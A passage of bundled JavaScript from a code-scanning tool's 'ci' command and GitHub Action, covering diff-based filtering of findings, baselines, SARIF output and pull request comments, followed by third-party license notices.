      finding,
      marker: findingMarker(finding.fingerprint),
      path,
      line,
      body: renderInlineComment(finding, rules.get(finding.ruleId), report.tool.informationUri)
    });
  }
  return { comments, notInline };
}
async function publishToGitHub(report, options, state, messages, warnings) {
  const resolved = resolveGitHubContext(options.github.flags, options.env);
  if (!resolved.ok) {
    warnings.push(`GitHub pull request comments skipped: missing ${resolved.missing.join(", ")}`);
    return void 0;
  }
  const context = resolved.context;
  const secrets = [context.token];
  const outcome = {};
  try {
    const pathPrefix = state.diff?.pathPrefix ?? await workTreePrefix(options.targetDir).catch(() => "");
    const headSha = context.headSha ?? state.diff?.target.headSha ?? await resolveCommit(options.targetDir, options.diff.head ?? "HEAD");
    if (!headSha) throw new Error("cannot tell the head commit (run inside the checked-out repository or pass --head)");
    const pathOf = (finding) => repositoryPath(finding, pathPrefix);
    const linkTo = (finding) => blobUrl(context.serverUrl, `${context.owner}/${context.repo}`, headSha, pathOf(finding), finding.location.line);
    const client = createGitHubClient({
      token: context.token,
      apiUrl: context.apiUrl,
      userAgent: `${report.tool.name}/${report.tool.version}`,
      warn: (message15) => warnings.push(redact(message15, secrets)),
      ...options.github.client
    });
    let notInline = [];
    if (options.github.inline) {
      const planned = planInlineComments(report, state.introduced, state.diff, pathOf, options.github.inlineMinSeverity);
      notInline = planned.notInline;
      const review = await publishInlineComments(client, context, planned.comments, {
        commitId: headSha,
        reviewBody: (count) => `${report.tool.name} found ${plural4(count, "new finding")} on changed lines.`
      });
      outcome.review = review;
      notInline = [...notInline, ...review.notPlaced];
      messages.push(
        `GitHub inline comments: ${review.created} created, ${review.updated} updated, ${review.unchanged} unchanged` + (notInline.length > 0 ? `; ${notInline.length} listed in the summary instead (not on the pull request diff)` : "")
      );
    }
    if (options.github.comment) {
      const summaryInput = {
        tool: report.tool,
        introduced: state.introduced,
        preexisting: state.preexisting,
        notInline,
        baselined: state.baselined,
        linkTo,
        pathOf
      };
      if (state.diff) summaryInput.scopeNote = `lines changed since \`${state.diff.target.baseRef}\``;
      const summary = await upsertSummaryComment(client, context, renderSummary2(summaryInput));
      outcome.summary = summary;
      messages.push(`GitHub summary comment ${summary.action}: ${summary.url}`);
    } else if (notInline.length > 0) {
      warnings.push(`${plural4(notInline.length, "finding")} could not be commented inline; enable --pr-comment to list them`);
    }
  } catch (error) {
    warnings.push(`GitHub pull request update failed: ${describeApiError(error, secrets)}`);
  }
  return outcome;
}
async function runCi(fullReport, options) {
  const messages = [];
  const warnings = [];
  if (options.writeBaselinePath) {
    const baseline = createBaseline(fullReport);
    await writeBaseline(options.writeBaselinePath, baseline);
    messages.push(`Wrote baseline ${options.writeBaselinePath} with ${plural4(baseline.fingerprints.length, "fingerprint")}.`);
  }
  let findings = fullReport.findings;
  let baselined = 0;
  if (options.baselinePath) {
    const applied = applyBaseline(findings, await readBaseline(options.baselinePath), options.baselinePath);
    findings = applied.findings;
    baselined = applied.matched;
  }
  const diff = await computeDiff(options, warnings);
  const partition = diff ? partitionByDiff(findings, diff.changes, { scope: options.diff.scope, pathPrefix: diff.pathPrefix }) : { introduced: findings, preexisting: [] };
  const introduced = partition.introduced.filter((f) => !f.suppressed);
  const preexisting = partition.preexisting.filter((f) => !f.suppressed);
  if (diff) {
    const { target } = diff;
    messages.push(
      `Compared with ${target.baseRef} (merge base ${target.mergeBaseSha.slice(0, 12)}, from ${target.baseSource}), ${options.diff.scope === "file" ? "changed files" : "changed lines"}: ${plural4(introduced.length, "new finding")}${countsText(introduced)}; ${plural4(preexisting.length, "finding")} already present.`
    );
  } else {
    messages.push(`${plural4(introduced.length, "finding")}${countsText(introduced)} in the whole project.`);
  }
  if (options.baselinePath) messages.push(`${plural4(baselined, "finding")} suppressed by baseline ${options.baselinePath}.`);
  const report = { ...fullReport, findings: partition.introduced };
  const outcome = {
    report,
    introduced,
    preexisting,
    baselined,
    messages,
    warnings,
    exitCode: options.failOn !== "none" && introduced.some((f) => atLeast(f.severity, options.failOn)) ? 1 : 0
  };
  if (diff) outcome.diff = diff;
  if (options.github.comment || options.github.inline) {
    const github = await publishToGitHub(fullReport, options, { introduced, preexisting, baselined, diff }, messages, warnings);
    if (github) outcome.github = github;
  }
  return outcome;
}

// src/ci/command.ts
var DEFAULT_RESULTS_FILE = "pathfinder-results.sarif";
var CI_FLAGS = {
  ...SCAN_FLAGS,
  base: { type: "string" },
  head: { type: "string" },
  "no-diff": { type: "boolean" },
  "diff-scope": { type: "string" },
  baseline: { type: "string" },
  "write-baseline": { type: "string" },
  "github-token": { type: "string" },
  "github-repo": { type: "string" },
  "github-pr": { type: "string" },
  "github-api-url": { type: "string" },
  "pr-comment": { type: "boolean" },
  "pr-inline": { type: "boolean" },
  "pr-inline-min-severity": { type: "string" }
};
var USAGE = `Usage: pathfinder ci [options] [PATH ...]

Scans like "pathfinder scan", then keeps only the findings on lines the change adds or modifies
(compared with the merge base of --base and --head) and writes them as SARIF to
${DEFAULT_RESULTS_FILE}. Findings elsewhere are counted as "already present".
Exit codes: 0 success, 1 a new finding at or above --fail-on, 2 usage or runtime error.
GitHub API failures are reported as warnings and change neither the report nor the exit code.

Examples:
  pathfinder ci --base origin/main --fail-on high
  pathfinder ci --pr-comment --pr-inline          (in GitHub Actions, on pull_request events)
  pathfinder ci --no-diff -o gitlab-sast -f gl-sast-report.json

Diff options:
      --base REF           Compare with the merge base of REF and --head (default: origin/$GITHUB_BASE_REF
                           or origin/$CI_MERGE_REQUEST_TARGET_BRANCH_NAME; without any, every finding is new)
      --head REF           The revision under review (default: HEAD)
      --no-diff            Report every finding, not only new ones
      --diff-scope SCOPE   line (default): findings on added or changed lines; file: findings in changed files

Baseline options:
      --baseline FILE      Ignore findings whose fingerprint is listed in FILE
      --write-baseline FILE  Write every current finding's fingerprint to FILE

GitHub pull request options (each falls back to the GitHub Actions environment):
      --pr-comment         Create or update one summary comment on the pull request
      --pr-inline          Comment new findings on the changed lines (one review per run)
      --pr-inline-min-severity SEV  Lowest severity commented inline (default: high)
      --github-token TOKEN   Token (default: $GITHUB_TOKEN)
      --github-repo OWNER/REPO  Repository (default: $GITHUB_REPOSITORY)
      --github-pr N        Pull request number (default: from $GITHUB_EVENT_PATH)
      --github-api-url URL   REST API root for GitHub Enterprise (default: $GITHUB_API_URL or api.github.com)

Output formats for ci: ${OUTPUT_FORMATS.join(", ")} (default: sarif; -f - writes to standard output)
${SCAN_FLAGS_HELP}`;
function parseScope(value) {
  const scope = (value ?? "line").toLowerCase();
  if (scope !== "line" && scope !== "file") throw new CliUsageError(`--diff-scope: expected line or file, got "${value}"`);
  return scope;
}
function parseSeverity(flag, value, fallback) {
  if (value === void 0) return fallback;
  const severity = value.trim().toLowerCase();
  if (!isSeverity(severity)) throw new CliUsageError(`${flag}: unknown severity "${value}" (use ${SEVERITIES.join(", ")})`);
  return severity;
}
function parsePullNumber(value) {
  if (value === void 0) return void 0;
  const n = Number(value);
  if (!Number.isInteger(n) || n <= 0) throw new CliUsageError(`--github-pr: expected a pull request number, got "${value}"`);
  return n;
}
async function executeCi(argv, io) {
  const { values: parsed, positionals } = parseArgs2({ args: argv, options: CI_FLAGS, allowPositionals: true, strict: true });
  const values = parsed;
  if (values.help) {
    io.stdout.write(`${USAGE}
`);
    return 0;
  }
  const format = parseFormat(values.output ?? "sarif", OUTPUT_FORMATS);
  const failOn = parseFailOn(values["fail-on"]);
  const scope = parseScope(values["diff-scope"]);
  const inlineMinSeverity = parseSeverity("--pr-inline-min-severity", values["pr-inline-min-severity"], "high");
  const pr = parsePullNumber(values["github-pr"]);
  const options = scanOptionsFrom(values, positionals, io);
  const outputFile = values["output-file"] ?? DEFAULT_RESULTS_FILE;
  const report = await runScan(options, values, io);
  const github = {};
  if (values["github-token"]) github.token = values["github-token"];
  if (values["github-repo"]) github.repo = values["github-repo"];
  if (pr !== void 0) github.pr = pr;
  if (values["github-api-url"]) github.apiUrl = values["github-api-url"];
  const diff = { enabled: !values["no-diff"], scope };
  if (values.base) diff.base = values.base;
  if (values.head) diff.head = values.head;
  const ciOptions = {
    targetDir: options.target,
    diff,
    failOn: failOn ?? "none",
    env: io.env,
    github: {
      flags: github,
      comment: values["pr-comment"] ?? false,
      inline: values["pr-inline"] ?? false,
      inlineMinSeverity
    }
  };
  if (values.baseline) ciOptions.baselinePath = resolve7(io.cwd, values.baseline);
  if (values["write-baseline"]) ciOptions.writeBaselinePath = resolve7(io.cwd, values["write-baseline"]);
  let outcome;
  try {
    outcome = await runCi(report, ciOptions);
  } catch (error) {
    if (error instanceof BaselineError) throw new UsageError(error.message);
    throw error;
  }
  const pathPrefix = outcome.diff?.pathPrefix ?? await workTreePrefix(options.target).catch(() => "");
  const text = renderReport(format, outcome.report, {
    showSuppressed: values["show-suppressed"] ?? false,
    color: false,
    pathPrefix
  });
  await writeOutput(text, outputFile, io);
  const secrets = [values["github-token"], io.env.GITHUB_TOKEN];
  for (const warning of outcome.warnings) io.stderr.write(`pathfinder ci: warning: ${redact(warning, secrets)}
`);
  if (!values.quiet) {
    for (const message15 of outcome.messages) io.stderr.write(`pathfinder ci: ${redact(message15, secrets)}
`);
    if (outputFile !== "-") io.stderr.write(`pathfinder ci: ${format} report written to ${outputFile}
`);
  }
  return { exitCode: outcome.exitCode, outcome, outputFile };
}

// src/ci/action.ts
function actionInput(env, name2) {
  return (env[`INPUT_${name2.replace(/ /g, "_").toUpperCase()}`] ?? "").trim();
}
function booleanInput(env, name2, fallback) {
  const value = actionInput(env, name2).toLowerCase();
  if (value === "") return fallback;
  if (["true", "yes", "on"].includes(value)) return true;
  if (["false", "no", "off"].includes(value)) return false;
  throw new Error(`input "${name2}" must be true or false, got "${value}"`);
}
function listInput(env, name2) {
  return actionInput(env, name2).split(/[\n,]/).map((part) => part.trim()).filter(Boolean);
}
function ciArgumentsFromInputs(env) {
  const args2 = ["ci"];
  const single = (flag, input) => {
    const value = actionInput(env, input);
    if (value) args2.push(`--${flag}`, value);
  };
  single("project", "project");
  for (const ruleset of listInput(env, "ruleset")) args2.push("--ruleset", ruleset);
  for (const glob of listInput(env, "exclude")) args2.push("--exclude", glob);
  for (const glob of listInput(env, "include")) args2.push("--include", glob);
  if (booleanInput(env, "skip-tests", false)) args2.push("--skip-tests");
  if (booleanInput(env, "show-suppressed", false)) args2.push("--show-suppressed");
  single("max-file-size", "max-file-size");
  single("jobs", "jobs");
  single("config", "config");
  single("pickle-policy", "pickle-policy");
  for (const global2 of listInput(env, "pickle-allow")) args2.push("--pickle-allow", global2);
  single("output", "output");
  single("output-file", "output-file");
  single("fail-on", "fail-on");
  single("base", "base");
  single("head", "head");
  if (!booleanInput(env, "diff", true)) args2.push("--no-diff");
  single("diff-scope", "diff-scope");
  single("baseline", "baseline");
  single("write-baseline", "write-baseline");
  single("github-api-url", "github-api-url");
  single("pr-inline-min-severity", "pr-inline-min-severity");
  const onPullRequest = (env.GITHUB_EVENT_NAME ?? "").startsWith("pull_request");
  if (onPullRequest && booleanInput(env, "pr-comment", true)) args2.push("--pr-comment");
  if (onPullRequest && booleanInput(env, "pr-inline", true)) args2.push("--pr-inline");
  return args2;
}
function setOutput(env, name2, value) {
  const file = env.GITHUB_OUTPUT;
  if (!file) return;
  const delimiter = `pathfinder_${randomUUID()}`;
  appendFileSync(file, `${name2}<<${delimiter}
${value}
${delimiter}
`);
}
function jobSummary(outcome, env) {
  const prefix = outcome.diff?.pathPrefix ?? "";
  const sha = outcome.diff?.target.headSha ?? env.GITHUB_SHA ?? "HEAD";
  const server = env.GITHUB_SERVER_URL ?? "https://github.com";
  const pathOf = (finding) => repositoryPath(finding, prefix);
  const input = {
    tool: outcome.report.tool,
    introduced: outcome.introduced,
    preexisting: outcome.preexisting,
    notInline: [],
    baselined: outcome.baselined,
    pathOf,
    linkTo: (finding) => blobUrl(server, env.GITHUB_REPOSITORY ?? "", sha, pathOf(finding), finding.location.line)
  };
  if (outcome.diff) input.scopeNote = `lines changed since \`${outcome.diff.target.baseRef}\``;
  return `${renderSummary2(input)}
`;
}
async function runAction(env, io) {
  const token = actionInput(env, "github-token");
  if (token) io.stdout.write(`::add-mask::${token}
`);
  let args2;
  try {
    args2 = ciArgumentsFromInputs(env);
  } catch (error) {
    io.stderr.write(`::error::${error.message}
`);
    return 2;
  }
  const cwd = env.GITHUB_WORKSPACE || process.cwd();
  const cliIo = { stdout: io.stdout, stderr: io.stderr, cwd, env: token ? { ...env, GITHUB_TOKEN: token } : env };
  let code3;
  let resultsFile;
  let findings = 0;
  let outcome;
  try {
    const result2 = await executeCi(args2.slice(1), cliIo);
    if (typeof result2 === "number") {
      code3 = result2;
    } else {
      code3 = result2.exitCode;
      outcome = result2.outcome;
      findings = outcome.introduced.length;
      if (result2.outputFile !== "-") resultsFile = resolve8(cwd, result2.outputFile);
    }
  } catch (error) {
    const known = error instanceof CliUsageError || error instanceof UsageError || error instanceof OutputError;
    const message15 = known || error.code?.startsWith("ERR_PARSE_ARGS") ? error.message : String(error.stack ?? error);
    io.stderr.write(`::error::pathfinder ci: ${redact(message15, [token]).replace(/\r?\n/g, "%0A")}
`);
    code3 = 2;
  }
  if (outcome && env.GITHUB_STEP_SUMMARY) {
    try {
      appendFileSync(env.GITHUB_STEP_SUMMARY, jobSummary(outcome, env));
    } catch (error) {
      io.stderr.write(`::warning::cannot write the job summary: ${error.message}
`);
    }
  }
  if (resultsFile) setOutput(env, "results-file", resultsFile);
  setOutput(env, "findings", String(findings));
  return code3;
}

// src/ci/action-main.ts
process.exitCode = await runAction(process.env, { stdout: process.stdout, stderr: process.stderr });
/*! Bundled license information:

smol-toml/dist/error.js:
smol-toml/dist/primitive.js:
smol-toml/dist/date.js:
smol-toml/dist/extract.js:
smol-toml/dist/util.js:
smol-toml/dist/struct.js:
smol-toml/dist/parse.js:
smol-toml/dist/stringify.js:
smol-toml/dist/index.js:
  (*!
   * Copyright (c) Squirrel Chat et al., All rights reserved.
   * SPDX-License-Identifier: BSD-3-Clause
   *
   * Redistribution and use in source and binary forms, with or without
   * modification, are permitted provided that the following conditions are met:
   *
   * 1. Redistributions of source code must retain the above copyright notice, this
   *    list of conditions and the following disclaimer.
   * 2. Redistributions in binary form must reproduce the above copyright notice,
   *    this list of conditions and the following disclaimer in the
   *    documentation and/or other materials provided with the distribution.
   * 3. Neither the name of the copyright holder nor the names of its contributors
   *    may be used to endorse or promote products derived from this software without
   *    specific prior written permission.
   *
   * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
   * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
   * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
   * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
   * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
   * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
   * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
   * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
   * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
   * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
   *)

@octokit/request-error/dist-src/index.js:
  (* v8 ignore else -- @preserve -- Bug with vitest coverage where it sees an else branch that doesn't exist *)

content-type/dist/index.js:
  (*!
   * content-type
   * Copyright(c) 2015 Douglas Christopher Wilson
   * MIT Licensed
   *)

@octokit/request/dist-bundle/index.js:
  (* v8 ignore next -- @preserve *)
  (* v8 ignore else -- @preserve *)

@octokit/graphql/dist-bundle/index.js:
  (* v8 ignore if -- @preserve *)
*/
